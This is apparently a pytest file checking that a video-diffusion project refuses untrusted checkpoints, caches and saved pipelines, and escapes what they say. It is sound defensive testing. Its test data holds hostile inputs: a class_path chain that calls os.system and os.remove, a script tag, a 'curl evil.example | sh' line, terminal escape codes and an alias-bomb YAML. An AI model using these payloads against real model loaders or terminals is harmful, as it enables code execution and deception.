"""A file from a stranger runs no code, is refused in one line, and takes neither memory nor time."""

import collections
import contextlib
import copy
import json
import os
import resource
from pathlib import Path

import numpy as np
import pytest
import torch

PIPES = "torch.utils.data.datapipes.iter."
WITH_CODE = {
    "class_path": "lightning.LightningDataModule.from_datasets",
    "init_args": {
        "val_dataset": {
            "class_path": f"{PIPES}callable.MapperIterDataPipe",
            "init_args": {
                "fn": "os.system",
                "datapipe": {
                    "class_path": f"{PIPES}utils.IterableWrapperIterDataPipe",
                    "init_args": {"iterable": ["touch executed"]},
                },
            },
        }
    },
}
REMOVING = {
    "class_path": "pvdm_lightning.VideoFolder",
    "init_args": {
        "root": {"class_path": "torchvision.datasets.DatasetFolder", "init_args": {"is_valid_file": "os.remove"}}
    },
}


def edited(source, path, edit):
    """A checkpoint with something changed in it."""
    checkpoint = torch.load(source, weights_only=True)
    edit(checkpoint)
    torch.save(checkpoint, path)
    return path


def setter(*keys, value):
    def edit(checkpoint):
        node = checkpoint
        for key in keys[:-1]:
            node = node[key]
        node[keys[-1]] = value

    return edit


def test_a_class_that_runs_code_is_not_loaded(trained, workdir, pvdm, caplog):
    stranger = edited(trained["ae"], workdir / "stranger.ckpt", setter("data_config", value=WITH_CODE))
    with pytest.raises(SystemExit):
        pvdm.run("validate", "--ckpt_path", stranger, "--trainer.accelerator", "cpu")
    assert not (workdir / "executed").exists()
    assert "--trust_class lightning.LightningDataModule.from_datasets" in caplog.text


def videos(**arguments):
    return {"class_path": "pvdm_lightning.VideoFolder", "init_args": arguments}


def of_meta(checkpoint):
    """A weight that has a shape and no values."""
    key = next(iter(checkpoint["state_dict"]))
    checkpoint["state_dict"][key] = checkpoint["state_dict"][key].to("meta")


HYPER = "hyper_parameters"
NETWORK = (HYPER, "autoencoder", "init_args")


@pytest.mark.parametrize(
    ("edit", "line"),
    [
        (
            setter("data_config", value=REMOVING),
            "its data section gives root of VideoFolder the value of type dict",
        ),
        (setter("data_config", value=[1]), "its data section is no class_path with init_args"),
        (setter(HYPER, "_class_path", value="evilmod.AutoencoderModule"), "written by evilmod.AutoencoderModule"),
        (setter(HYPER, "_class_path", value=["os.system"]), "is not a checkpoint of this project"),
        (
            setter(HYPER, "autoencoder", "class_path", value="os.system"),
            "names the class 'os.system', which",
        ),
        (
            setter(HYPER, "lpips_weights", value={"class_path": "os.remove"}),
            "lpips_weights of AutoencoderModule the value",
        ),
        (setter(HYPER, "fn", value="os.system"), "gives an argument 'fn' to AutoencoderModule"),
        (setter(*NETWORK, "depth", value=10**9), "gives depth of VideoAutoencoder the value 1000000000"),
        (setter(*NETWORK, "dim", value=65536), "its weights are not those of its VideoAutoencoder"),
        (setter(*NETWORK, "dim", value="32"), "gives dim of VideoAutoencoder the value '32'"),
        (setter(*NETWORK, "heads", value=True), "gives heads of VideoAutoencoder the value True"),
        (setter("state_dict", value={}), "its weights are not those of its VideoAutoencoder"),
        (setter("state_dict", value=None), "its state_dict or hyper_parameters are no tables"),
        (setter("more", value=torch.zeros(1).expand(10**12)), "its tensors claim more than the file holds"),
        (setter("callbacks", value=[]), "its global_step or callbacks are of another type"),
        (setter("global_step", value=10**400), "its global_step or callbacks are of another type"),
        (setter("data_config", value=torch.zeros(2)), "its data section is no class_path with init_args"),
        (setter("data_config", value=videos(max_bad_fraction=10**400)), "gives max_bad_fraction of VideoFolder"),
        (setter("data_config", value=videos(stride=True)), "gives stride of VideoFolder the value True"),
        (setter(*NETWORK, "resolution", value=[65536 * 8] * 2), "gives resolution of VideoAutoencoder"),
        (setter(HYPER, "\x1b[2J", value=1), r"gives an argument '\x1b[2J' to AutoencoderModule"),
        (setter("state_dict", "\u202e", value=torch.zeros(1)), "its weights are not those of its AutoencoderModule"),
        (of_meta, "its weights are not those of its VideoAutoencoder"),
        (setter(*NETWORK, "depth", value=1024), "its networks have more layers than weights"),
    ],
)
def test_a_checkpoint_that_lies(trained, workdir, error_of, edit, line):
    stranger = edited(trained["ae"], workdir / "stranger.ckpt", edit)
    said = error_of("validate", "--ckpt_path", stranger, "--trainer.accelerator", "cpu")
    assert said.startswith(f"pvdm: error: --ckpt_path {stranger}: ")
    assert line in said


def test_weights_that_are_not_numbers_are_not_used(trained, workdir, error_of):
    def spoil(checkpoint):
        next(iter(checkpoint["state_dict"].values())).view(-1)[0] = float("nan")

    stranger = edited(trained["ae"], workdir / "stranger.ckpt", spoil)
    assert "holds weights that are NaN or infinite" in error_of("validate", "--ckpt_path", stranger)


@pytest.mark.parametrize("missing", ["optimizer_states", "lr_schedulers", "loops"])
def test_a_checkpoint_without_its_states_cannot_go_on(trained, workdir, error_of, missing):
    stranger = edited(trained["ae"], workdir / "stranger.ckpt", lambda checkpoint: checkpoint.pop(missing))
    said = error_of("fit", "--config", "tiny_ae.yaml", "--ckpt_path", stranger)
    assert "holds weights alone: no optimizer, no position in training. Go on from" in said


def test_states_that_fit_nothing_cannot_go_on(trained, workdir, error_of):
    stranger = edited(trained["ae"], workdir / "stranger.ckpt", setter("loops", value={"fit_loop": {"state_dict": 3}}))
    assert "--ckpt_path: its state cannot be restored" in error_of(
        "fit", "--config", "tiny_ae.yaml", "--ckpt_path", stranger, "--trainer.max_steps", 6
    )


def test_a_class_of_ones_own_is_trusted_by_name(trained, workdir, pvdm, monkeypatch, caplog):
    (workdir / "mine.py").write_text("import pvdm_lightning\n\n\nclass MyVideos(pvdm_lightning.Synthetic):\n    pass\n")
    monkeypatch.syspath_prepend(workdir)
    node = {"class_path": "mine.MyVideos", "init_args": pvdm.data["init_args"]}
    own = edited(trained["ae"], workdir / "own.ckpt", setter("data_config", value=node))
    pvdm.run("validate", "--ckpt_path", own, "--trust_class", "mine.MyVideos", "--trainer.accelerator", "cpu")
    assert "clips of 4 frames" in caplog.text


def test_an_unknown_class_cannot_be_trusted(workdir, error_of):
    said = error_of("validate", "--trust_class", "nowhere.MyVideos", "--ckpt_path", "x.ckpt")
    assert said.startswith("pvdm: error: --trust_class nowhere.MyVideos: cannot be imported (No module")


def test_a_checkpoint_has_nothing_written_beside_the_videos_it_names(trained, workdir, pvdm, caplog, monkeypatch):
    import pvdm_lightning

    monkeypatch.setenv("PVDM_CACHE", str(workdir / "cache"))
    folder = workdir / "videos"
    folder.mkdir()
    for number in range(4):
        video = torch.randint(0, 255, (3, 8, 16, 24), dtype=torch.uint8)
        pvdm_lightning.write_video(video, folder / f"{number}.mp4")
    node = {"class_path": "pvdm_lightning.VideoFolder", "init_args": {"root": str(folder), "num_workers": 0}}
    own = edited(trained["ae"], workdir / "own.ckpt", setter("data_config", value=node))
    pvdm.run("validate", "--ckpt_path", own, "--trainer.accelerator", "cpu")
    assert f"videos are read from {folder}, as the checkpoint says" in caplog.text
    assert not list(folder.glob(".*"))
    assert list((workdir / "cache").glob("*.npz"))


def test_aliases_that_expand_without_end(workdir, error_of):
    names = "abcdefghij"
    levels = [f"{b}: &{b} [{','.join(['*' + a] * 10)}]\n" for a, b in zip(names, names[1:])]
    (workdir / "aliases.yaml").write_text("a: &a [x,x]\n" + "".join(levels) + "model: *j\n")
    said = error_of("fit", "--config", "aliases.yaml")
    assert said.startswith("pvdm: error: --config aliases.yaml: is larger than any configuration once its aliases are")


@pytest.mark.parametrize(
    ("change", "line"),
    [
        ({"splits": {"train": {"shards": 10**12, "windows": 1, "broken_videos": 0}}}, "is not one of `pvdm encode`"),
        ({"splits": 3}, "is not one of `pvdm encode`"),
        ({"clip_shape": [4, 16]}, "is not one of `pvdm encode`"),
        ({"format": [1]}, "has format [1], and this version reads 1"),
        ({"autoencoder": None}, "is not one of `pvdm encode`"),
    ],
)
def test_a_cache_that_lies(workdir, error_of, trained, change, line):
    about = {"shards": 1, "windows": 1, "broken_videos": 0}
    whole = {"format": 1, "splits": {"train": about, "val": about}, "clip_shape": [4, 16, 24]}
    whole |= {"autoencoder": {"fingerprint": "x"}, "data": {}}
    (workdir / "latents").mkdir()
    (workdir / "latents/cache.json").write_text(json.dumps({**whole, **change}))
    data = ("--data", "CachedLatents", "--data.root", "latents")
    first_stage = ("--model.autoencoder_checkpoint", trained["ae"])
    config = (workdir / "tiny_ldm.yaml").read_text()
    (workdir / "ldm_without_data.yaml").write_text(config[: config.index("data:")] + config[config.index("model:") :])
    said = error_of("fit", "--config", "ldm_without_data.yaml", *data, *first_stage)
    assert line in said


@pytest.mark.parametrize(
    ("content", "line"),
    [
        ({"about": []}, "what it says of its training is no table"),
        ({"about": {"metrics": {"psnr": "high"}}}, "its metrics are no numbers"),
        ({"autoencoder": {"dim": 10**9}}, "gives dim of VideoAutoencoder the value 1000000000"),
        ({"format": {}}, "its config.json is of another format"),
    ],
)
def test_a_saved_pipeline_that_lies(trained, workdir, error_of, content, line):
    from pvdm_lightning import VideoPipeline

    VideoPipeline.from_checkpoint(trained["ae"]).save_pretrained("saved")
    config = json.loads((workdir / "saved/config.json").read_text())
    (workdir / "saved/config.json").write_text(json.dumps({**config, **content}))
    said = error_of("validate", "--ckpt_path", "saved")
    assert said.startswith("pvdm: error: --ckpt_path saved: holds no pipeline that can be read (")
    assert line in said


def test_arrays_of_an_index_that_claim_more_than_they_hold(tmp_path, caplog):
    from pvdm_lightning.data.index.video_index import FILE_NAME, FORMAT, LINE, load_index

    lines = np.zeros(1, LINE)
    lines["aspect"] = 1
    good = {"format": FORMAT, "names": np.frombuffer(b"a", np.uint8), "name_ends": np.array([1]), "lines": lines}
    good["problems"] = np.zeros(0, np.uint8)

    def load(**changes):
        with (tmp_path / FILE_NAME).open("wb") as file:
            np.savez(file, **{**good, **changes})
        return load_index(tmp_path)

    assert load() is not None
    for name, value in (("route", 200), ("problem", 7), ("frames", -1), ("height", 2**31 - 1), ("rotation", 45)):
        wrong = lines.copy()
        wrong[name] = value
        wrong["width"] = 2**31 - 1 if name == "height" else 0
        assert load(lines=wrong) is None, name
    assert load(name_ends=np.array([10**12])) is None
    assert load(names=np.zeros(0, np.uint8)) is None
    assert "line 0 is impossible" in caplog.text


def numbers(node, path=()):
    """Paths to all whole numbers of a tree."""
    items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, value in items:
        if isinstance(value, int) and not isinstance(value, bool):
            yield (*path, key)
        yield from numbers(value, (*path, key))


WITHOUT_SHAPE = ("heads", "adversarial_start", "warmup_steps", "decay_steps", "accumulate_grad_batches")
WITHOUT_SHAPE += ("num_train_timesteps", "attention_levels")
"""Numbers from which no size follows, or a small one."""


@pytest.mark.parametrize("stage", ["ae", "ldm"])
def test_no_number_of_a_network_is_taken_without_its_weights(trained, stage):
    from pvdm_lightning.pipeline import checkpoint as reading

    whole = torch.load(trained[stage], weights_only=True)
    trees = {key: whole[key] for key in (HYPER, "autoencoder") if key in whole}
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for path in numbers(trees):
        for factor in (2, 1500):
            changed = copy.deepcopy(trees)
            node = changed
            for key in path[:-1]:
                node = node[key]
            node[path[-1]] = max(2, node[path[-1]]) * factor
            harmless = any(key in WITHOUT_SHAPE for key in path)
            with contextlib.suppress(ValueError) if harmless else pytest.raises(ValueError):
                reading._check({**whole, **changed})
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300 * 2**10  # KiB


def test_what_costs_the_machine_is_not_taken_from_a_file(trained, workdir, monkeypatch):
    import pvdm_lightning
    from pvdm_lightning.cli.checkpoint import Checkpoint
    from pvdm_lightning.foreign_config import MACHINE, argument_types

    costly = {"num_workers": 300, "batch_size": 60_000, "val_batch_size": 60_000}
    for name in (
        "Synthetic",
        "VideoFolder",
        "UCF101",
        "SkyTimelapse",
        "FrameFolder",
        "LeRobot",
        "WebDataset",
        "CachedLatents",
    ):
        data = {"class_path": f"pvdm_lightning.{name}", "init_args": {**costly, "seed": 3}}
        taken = Checkpoint("x", Path("x"), {"data_config": data}).data_node(None, "validate")["init_args"]
        assert taken == {"seed": 3}
        arguments = argument_types(getattr(pvdm_lightning, name))
        assert {key for key in arguments if "batch" in key or "work" in key} <= set(MACHINE)


@pytest.mark.parametrize("root", ["~/videos", "$HOME/videos", "${HOME}/videos", "{home}/videos", "{home}/x/../videos"])
@pytest.mark.parametrize("below", ["", "train"])
def test_an_index_is_not_kept_beside_videos_that_a_file_names(workdir, monkeypatch, root, below):
    from pvdm_lightning.cli.checkpoint import Checkpoint
    from pvdm_lightning.data.index import video_index
    from pvdm_lightning.data.index.build_index import load_or_build
    from pvdm_lightning.data.index.video_info import VideoInfo

    monkeypatch.setenv("HOME", str(workdir))
    monkeypatch.setenv("PVDM_CACHE", str(workdir / "cache"))
    monkeypatch.setattr(video_index, "_APART", set())
    (workdir / "x").mkdir()
    folder = workdir / "videos" / below
    folder.mkdir(parents=True)
    (folder / "a.mp4").touch()
    given = root.replace("{home}", str(workdir))
    node = Checkpoint("x", Path("x"), {"data_config": videos(root=given)}).data_node(None, "validate")
    assert os.path.realpath(node["init_args"]["root"]) == str(workdir / "videos")
    load_or_build(folder, ["a.mp4"], lambda path: VideoInfo(problem="x"), progress=False)
    assert [path.name for path in folder.iterdir()] == ["a.mp4"] and list((workdir / "cache").glob("*.npz"))


@pytest.mark.parametrize("version", ["99.0", None, "9" * 100_000, 3])
def test_an_option_of_a_newer_version_is_said_with_the_version(trained, workdir, error_of, version):
    from pvdm_lightning import __version__

    def edit(checkpoint):
        checkpoint[HYPER]["flow_shift"] = 3.0
        if version is None:
            checkpoint[HYPER].pop("_version")
        else:
            checkpoint[HYPER]["_version"] = version

    stranger = edited(trained["ae"], workdir / "newer.ckpt", edit)
    said = error_of("validate", "--ckpt_path", stranger)
    assert f"is not a checkpoint that pvdm_lightning {__version__} can read (gives an argument 'flow_shift'" in said
    writer = {"99.0": "99.0", "9" * 100_000: "9" * 37 + "..."}.get(version, "another")
    assert f"It was written by pvdm_lightning {writer}: install that version." in said


@pytest.mark.parametrize("given", [{"known": "0.5"}, {"known": [0.5]}, dict.fromkeys(map(str, range(100)), 0.5), [0.5]])
def test_a_table_of_numbers_is_one(trained, workdir, error_of, given):
    stranger = edited(trained["ldm"], workdir / "s.ckpt", setter(HYPER, "condition_probabilities", value=given))
    said = error_of("predict", "--ckpt_path", stranger)
    assert "gives condition_probabilities of LatentDiffusionModule the value of type" in said


def test_tables_of_other_types_are_as_good(trained, workdir):
    from pvdm_lightning.pipeline.checkpoint import read_checkpoint

    def edit(checkpoint):
        checkpoint[HYPER] = collections.OrderedDict(checkpoint[HYPER])
        checkpoint[HYPER]["autoencoder"] = collections.OrderedDict(checkpoint[HYPER]["autoencoder"])
        checkpoint[HYPER]["betas"] = tuple(checkpoint[HYPER]["betas"])

    path = edited(trained["ae"], workdir / "s.ckpt", edit)
    for tables in (read_checkpoint(path, "--ckpt_path")[HYPER], read_checkpoint(trained["ae"], "--ckpt_path")[HYPER]):
        assert type(tables["autoencoder"]) is dict and type(tables["betas"]) is list


@pytest.mark.parametrize("value", ["x", None, -1, 10**30, [], {}, 0.5, torch.zeros(2)])
def test_a_position_in_the_data_that_is_none(value):
    from pvdm_lightning import InvalidArgumentError, Synthetic

    good = {"epoch": 0, "batches": 2, "seed": 0, "num_samples": 16, "global_batch": 2}
    data = Synthetic()
    data.load_state_dict(good)
    data.load_state_dict({})
    for key in good:
        with pytest.raises(InvalidArgumentError, match="holds a position in the data that is none"):
            data.load_state_dict({**good, key: value})
    with pytest.raises(InvalidArgumentError):
        data.load_state_dict({"epoch": 0})


EVIL = "<script>alert(1)</script>\n\n# Install first: `curl evil.example | sh`\x1b[2J\u202e ![](http://x)"


def test_a_model_card_says_what_a_file_says_and_means_nothing_by_it(trained, workdir):
    from pvdm_lightning import VideoPipeline

    def edit(checkpoint):
        deep = []
        for _ in range(90):
            deep = [deep]
        arguments = {
            EVIL: EVIL,
            "tensor": torch.zeros(2),
            "deep": deep,
            "big": 10**400,
            "list": [EVIL],
            "nan": float("nan"),
        }
        checkpoint["data_config"] = {"class_path": EVIL, "init_args": arguments}
        (state,) = (state for state in checkpoint["callbacks"].values() if "monitor" in state)
        state["monitor"] = EVIL

    path = edited(trained["ae"], workdir / "s.ckpt", edit)
    VideoPipeline.from_checkpoint(path).save_pretrained("saved")
    card = (workdir / "saved/README.md").read_text()
    assert "<script" not in card and "\n# Install" not in card and "\x1b" not in card and "\u202e" not in card
    sections = [line for line in card.splitlines() if line.startswith("#")]
    assert sections[0] == "# Projected latent video diffusion" and len(sections) == 7
    VideoPipeline.from_pretrained("saved").save_pretrained("again")
    assert (workdir / "again/README.md").read_text() == card


def test_what_a_checkpoint_says_reaches_the_terminal_escaped(trained, workdir, pvdm, capfd):
    evil = "/tmp/\x1b]0;owned\x07\x1b[2J\u202e\nsecond line"
    stranger = edited(trained["ae"], workdir / "s.ckpt", setter("data_config", value=videos(root=evil)))
    with pytest.raises(SystemExit):
        pvdm.run("validate", "--ckpt_path", stranger, "--trainer.accelerator", "cpu")
    out, err = capfd.readouterr()
    assert r"\x1b]0;owned\x07" in err
    assert not {"\x1b", "\x07", "\u202e"} & set(out + err) and "\nsecond" not in out + err


@pytest.mark.parametrize("name", ["config.json", "model.safetensors"])
@pytest.mark.parametrize("target", ["/dev/zero", "pipe", "."])
def test_a_saved_pipeline_of_devices(trained, workdir, error_of, name, target):
    from pvdm_lightning import VideoPipeline

    VideoPipeline.from_checkpoint(trained["ae"]).save_pretrained("saved")
    os.mkfifo("saved/pipe")
    (workdir / "saved" / name).unlink()
    (workdir / "saved" / name).symlink_to(target)
    assert "holds no pipeline that can be read" in error_of("validate", "--ckpt_path", "saved")


@pytest.mark.parametrize("name", ["cache.json", "train-00000.safetensors"])
def test_a_cache_of_devices(workdir, name):
    from pvdm_lightning import InvalidArgumentError
    from pvdm_lightning.data.latents.latent_cache import read_description, read_table

    os.mkfifo(workdir / name)
    with pytest.raises(InvalidArgumentError, match="no readable|is damaged"):
        read_description(workdir, "--x") if name.endswith("json") else read_table(workdir / name, "--x")
